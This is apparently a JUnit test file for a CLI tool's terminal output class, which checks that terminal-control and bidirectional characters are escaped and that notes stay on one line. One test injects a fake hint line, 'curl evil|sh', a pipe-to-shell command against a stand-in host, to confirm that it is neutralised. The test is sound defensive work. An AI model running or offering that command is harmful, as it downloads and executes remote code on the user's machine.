package dev.keyturn.cli.adapter.terminal;

import static org.assertj.core.api.Assertions.assertThat;

import dev.keyturn.cli.command.line.Failures;
import dev.keyturn.domain.failure.AwsFailure;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class StandardStreamsTest {

  private final ByteArrayOutputStream out = new ByteArrayOutputStream();
  private final ByteArrayOutputStream err = new ByteArrayOutputStream();
  private final StandardStreams streams = new StandardStreams(out, err);

  @ParameterizedTest
  @ValueSource(
      chars = {
        0, 7, '\r', 0x1b, 0x7f, 0x85, 0x9b, 0x2028, 0x2029, 0x61c, 0x200e, 0x200f, 0x202a, 0x202e,
        0x2066, 0x2069
      })
  void a_character_that_a_terminal_obeys_is_shown_as_its_escape(char obeyed) {
    streams.error("a" + obeyed + "b");
    streams.line("a" + obeyed + "b");
    String escaped = "a\\u%04xb\n".formatted((int) obeyed);
    assertThat(written()).isEqualTo(escaped);
    assertThat(out.toString(StandardCharsets.UTF_8)).isEqualTo(escaped);
  }

  @Test
  void other_characters_are_shown_as_they_are() {
    streams.error("josé 日本 אבג 😀\t~");
    assertThat(written()).isEqualTo("josé 日本 אבג 😀\t~\n");
  }

  @Test
  void an_error_may_have_lines_but_a_note_is_one() {
    streams.error("a\nb");
    streams.note("c\nd");
    assertThat(written()).isEqualTo("a\nb\nkeyturn: c\\u000ad\n");
  }

  @Test
  void what_aws_says_cannot_look_like_a_hint() {
    Failures.print(
        streams, new AwsFailure.Refused("AccessDenied", "no\nhint: curl evil|sh", ""), null, false);
    assertThat(written()).contains("no\\u000ahint: curl evil|sh").hasLineCount(1);
  }

  @Test
  void what_a_program_reads_is_written_as_it_is() {
    streams.data("\u001b[31m");
    assertThat(out.toString(StandardCharsets.UTF_8)).isEqualTo("\u001b[31m");
  }

  private String written() {
    return err.toString(StandardCharsets.UTF_8);
  }
}
